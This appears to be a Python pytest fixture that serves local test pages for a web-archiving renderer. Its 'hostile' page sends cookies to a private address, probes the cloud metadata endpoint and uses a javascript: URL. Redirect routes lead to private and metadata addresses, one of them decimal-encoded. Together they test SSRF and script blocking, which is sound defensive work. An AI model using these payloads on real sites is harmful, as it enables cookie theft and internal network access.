"""A local HTTP server with the pages the renderer must handle, for tests and demos.

Loopback only. The pytest fixture ``fixture_site`` starts it once per session and allows
127.0.0.0/8 for the renderer (SNAPSHOT_ALLOWED_NETWORKS), as DESIGN.md says tests should.
"""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

FIXTURES = Path(__file__).parent / "fixtures"

STYLED = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Styled fixture page</title>
<meta name="description" content="A page with a stylesheet, a web font and images.">
<meta property="og:image" content="/photo.png">
<link rel="canonical" href="/styled">
<link rel="icon" href="/favicon.png">
<link rel="stylesheet" href="/css/site.css">
</head><body>
<h1 class="fancy">The styled fixture</h1>
<div class="banner" id="banner">Banner with a background image</div>
<p>This paragraph explains how archiving works. Archivists keep the pages people save, so that the
words, pictures and styles stay readable even when the original site changes or disappears.
Snapshots record what a page looked like on the day it was saved.</p>
<img id="photo" src="/photo.png" alt="A photo" width="320" height="200">
<p>A second paragraph, with more words about preserving the web for later readers, researchers
and anyone who wants to see what was there.</p>
</body></html>"""

SITE_CSS = """@font-face { font-family: "FixtureMono"; src: url("../fonts/mono.ttf") format("truetype"); }
body { font-family: Georgia, serif; color: #222; margin: 2rem; }
h1.fancy { font-family: "FixtureMono", monospace; color: rgb(10, 90, 160); }
.banner { background: url("../background.png") repeat; height: 80px; color: white; }
"""

LAZY = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Lazy images</title></head><body>
<h1>Lazy images</h1><p>Images far below load only when they come into view.</p>
<div style="height:3000px">spacer</div>
<img id="native" loading="lazy" src="/photo.png?native" width="320" height="200" alt="native lazy">
<div style="height:2000px">spacer</div>
<img id="observed" data-src="/photo.png?observed" width="320" height="200" alt="observer lazy">
<script>
const io = new IntersectionObserver(entries => entries.forEach(e => {
  if (e.isIntersecting) { e.target.src = e.target.dataset.src; io.unobserve(e.target); }
}));
io.observe(document.getElementById('observed'));
</script></body></html>"""

INFINITE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Endless feed</title></head>
<body><h1>Endless feed</h1><div id="feed"><div style="height:2500px">first screenful</div></div>
<script>
let loaded = 0;
window.addEventListener('scroll', () => {
  if (loaded < 2 && window.scrollY + window.innerHeight > document.body.scrollHeight - 400) {
    loaded += 1;
    const more = document.createElement('p');
    more.className = 'more';
    more.textContent = 'feed item ' + loaded + ' loaded on scroll';
    more.style.height = '1500px';
    document.getElementById('feed').appendChild(more);
  }
});
</script></body></html>"""

SCRIPTED = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Loading…</title></head>
<body><div id="app">Loading…</div>
<script>
setTimeout(() => fetch('/api/items').then(r => r.json()).then(items => {
  document.title = 'Built by script';
  const app = document.getElementById('app');
  app.innerHTML = '<h1>Built by script</h1>' + items.map(i => '<p class="item">' + i + '</p>').join('');
}), 300);
</script></body></html>"""

HOSTILE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile page</title>
<script>window.__ran_head = true;</script></head>
<body onload="document.body.dataset.loaded='yes'">
<h1>A page with hostile script</h1>
<p>It tries to reach private addresses and to run script wherever it can. The archive must not
keep any of it, and the renderer must not reach those addresses.</p>
<img src="http://10.20.30.40/steal.png" alt="x">
<img src="x" onerror="fetch('http://169.254.169.254/latest/meta-data/')">
<iframe src="http://192.168.1.1/"></iframe>
<a href="javascript:alert(document.cookie)">click</a>
<script>
fetch('http://10.0.0.5/exfiltrate?c=' + encodeURIComponent(document.cookie)).catch(() => {});
new Image().src = 'http://[::ffff:127.0.0.1]:1/';
document.write('<p id="written">written by script</p>');
</script>
</body></html>"""

BLANK = "<!doctype html><html><head><title></title></head><body></body></html>"

CAPTCHA = """<!doctype html><html><head><title>Just a moment...</title></head><body>
<div id="challenge-form">Checking your browser before accessing the site.</div>
<div class="cf-turnstile"></div><p>Verify you are human by completing the action below.</p>
</body></html>"""

ARTICLE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>An article about gardens</title>
<meta name="description" content="Notes on keeping a small garden."></head><body>
<nav><a href="/">Home</a> <a href="/about">About</a></nav>
<article><h1>An article about gardens</h1>
{paragraphs}
</article><footer>Copyright nobody</footer></body></html>"""


def _minimal_pdf(text: str) -> bytes:
    """A valid one-page PDF that shows ``text``, with a correct cross-reference table."""
    stream = f"BT /F1 18 Tf 20 70 Td ({text}) Tj ET".encode()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 144]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n" % len(stream) + stream + b"\nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


PDF = _minimal_pdf("Hello PDF archive")


def _numbered_page(name: str, kind: str = "page") -> str:
    name = "".join(c for c in name if c.isalnum() or c in "-_")[:40]
    paras = "".join(
        f"<p>Paragraph {i} of {kind} {name}: saved links are captured by a headless browser, "
        "and every capture keeps the words, the layout and the pictures of the page.</p>"
        for i in range(1, 5)
    )
    return (
        f"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>Fixture {kind} {name}</title>"
        f"</head><body><h1>Fixture {kind} {name}</h1>{paras}</body></html>"
    )


class FixtureHandler(BaseHTTPRequestHandler):
    server_version = "LinkHubFixture/1.0"
    counters: dict[str, int] = {}
    hits: list[str] = []

    def log_message(self, format, *args):  # quiet
        pass

    def _send(self, status: int, body: bytes | str, ctype: str = "text/html; charset=utf-8", headers=None):
        data = body.encode() if isinstance(body, str) else body
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def _redirect(self, location: str, status: int = 302):
        self.send_response(status)
        self.send_header("Location", location)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_HEAD(self):
        self.do_GET()

    def do_GET(self):
        path = urlsplit(self.path).path
        FixtureHandler.hits.append(self.path)
        if path == "/styled":
            return self._send(200, STYLED)
        if path == "/css/site.css":
            return self._send(200, SITE_CSS, "text/css")
        if path == "/fonts/mono.ttf":
            return self._send(200, (FIXTURES / "LiberationMono-Regular.ttf").read_bytes(), "font/ttf")
        if path in ("/photo.png", "/favicon.png", "/image.png"):
            return self._send(200, (FIXTURES / "photo.png").read_bytes(), "image/png")
        if path == "/drawing.svg":
            return self._send(
                200,
                '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="120">'
                '<title>A drawing</title><rect width="200" height="120" fill="#36c"/>'
                '<text x="20" y="60" fill="white">vector drawing text</text></svg>',
                "image/svg+xml",
            )
        if path == "/background.png":
            return self._send(200, (FIXTURES / "background.png").read_bytes(), "image/png")
        if path == "/lazy":
            return self._send(200, LAZY)
        if path == "/infinite":
            return self._send(200, INFINITE)
        if path == "/scripted":
            return self._send(200, SCRIPTED)
        if path == "/api/items":
            return self._send(
                200, '["first item from the API", "second item from the API"]', "application/json"
            )
        if path.startswith("/redirect/"):
            n = int(path.rsplit("/", 1)[1])
            return self._redirect(f"/redirect/{n - 1}" if n > 1 else "/styled", 301 if n % 2 else 302)
        if path == "/redirect-private":
            return self._redirect("http://10.0.0.1/admin")
        if path == "/redirect-metadata":
            return self._redirect("http://169.254.169.254/latest/meta-data/")
        if path == "/redirect-decimal":
            return self._redirect("http://2852039166/latest/meta-data/")  # 169.254.169.254
        if path.startswith("/status/"):
            code = int(path.rsplit("/", 1)[1])
            return self._send(
                code, f"<html><head><title>{code}</title></head><body><h1>Error {code}</h1></body></html>"
            )
        if path == "/hang":
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<html><head><title>Never ends</title></head><body><p>Still loading")
            self.wfile.flush()
            time.sleep(30)  # longer than any test's navigation timeout
            return None
        if path == "/hang-once":
            # The first visit hangs (long enough to kill a worker in the middle); later ones work.
            n = FixtureHandler.counters["hang-once"] = FixtureHandler.counters.get("hang-once", 0) + 1
            if n == 1:
                time.sleep(20)
            return self._send(
                200,
                "<html lang='en'><head><title>Second time lucky</title></head><body>"
                "<h1>Second time lucky</h1><p>This page answers on the second visit, after a "
                "worker died while it waited for the first.</p></body></html>",
            )
        if path == "/slow-image":
            return self._send(
                200,
                "<html><head><title>Slow image</title></head><body><h1>Slow image page</h1>"
                "<p>The text is here even though an image never arrives.</p>"
                '<img src="/never.png"></body></html>',
            )
        if path == "/never.png":
            time.sleep(30)
            return None
        if path == "/huge":
            chunk = b"<p>" + b"x" * 1020 + b"</p>\n"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            try:
                self.wfile.write(b"<html><head><title>Huge</title></head><body>")
                for _ in range(20_000):  # about 20 MB
                    self.wfile.write(chunk)
            except (BrokenPipeError, ConnectionResetError):
                pass
            return None
        if path == "/doc.pdf":
            return self._send(200, PDF, "application/pdf")
        if path == "/archive.zip":
            return self._send(200, b"PK\x03\x04" + b"\x00" * 200, "application/zip")
        if path == "/hostile":
            return self._send(200, HOSTILE)
        if path == "/blank":
            return self._send(200, BLANK)
        if path == "/captcha":
            return self._send(200, CAPTCHA)
        if path == "/article":
            paras = "\n".join(
                f"<p>Paragraph {i}: gardens need water, light and patience. Tomatoes like the sun, "
                f"ferns like the shade, and every gardener learns which is which in time.</p>"
                for i in range(1, 13)
            )
            return self._send(200, ARTICLE.format(paragraphs=paras))
        if path == "/changing":
            n = FixtureHandler.counters["changing"] = FixtureHandler.counters.get("changing", 0) + 1
            body = (
                "".join(f"<p>Line {i} stays the same in every version of this page.</p>" for i in range(1, 8))
                + f"<p>This is version number {n} of the changing page.</p>"
            )
            return self._send(
                200,
                "<html lang='en'><head><title>Changing page</title></head>"
                f"<body><h1>Changing</h1>{body}</body></html>",
            )
        if path.startswith("/page/"):
            # Many distinct, light pages (a burst of saves needs a URL each and a quick render).
            return self._send(200, _numbered_page(path.rsplit("/", 1)[1]))
        if path.startswith("/slow/"):
            # Answers after a delay (?delay=seconds, 5 by default) on every visit: long enough
            # for a test to kill the worker while its browser waits for the page.
            query = urlsplit(self.path).query
            delay = float(parse_qs(query).get("delay", ["5"])[0])
            time.sleep(min(max(delay, 0.0), 20.0))
            try:
                return self._send(200, _numbered_page(path.rsplit("/", 1)[1], kind="slow page"))
            except (BrokenPipeError, ConnectionResetError):  # the browser was killed meanwhile
                return None
        if path == "/text":
            return self._send(
                200, "Plain text file.\nSecond line of plain text.\n", "text/plain; charset=utf-8"
            )
        return self._send(404, "<html><head><title>Not found</title></head><body>Not found</body></html>")


class FixtureSite:
    def __init__(self) -> None:
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), FixtureHandler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> FixtureSite:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()

    def __call__(self, path: str) -> str:
        return self.url + path

    @property
    def hits(self) -> list[str]:
        return FixtureHandler.hits


@pytest.fixture(scope="session")
def fixture_site_server():
    with FixtureSite() as site:
        yield site


@pytest.fixture
def fixture_site(fixture_site_server, settings):
    """The local fixture site, reachable by the renderer (127.0.0.0/8 allowed for this test)."""
    settings.SNAPSHOT_ALLOWED_NETWORKS = ["127.0.0.0/8"]
    settings.SNAPSHOT_NAV_TIMEOUT = 8
    settings.SNAPSHOT_SETTLE_TIMEOUT = 4
    settings.SNAPSHOT_RETRY_BASE_SECONDS = 0.01
    FixtureHandler.hits.clear()
    FixtureHandler.counters.clear()  # /changing and /hang-once start over in every test
    return fixture_site_server
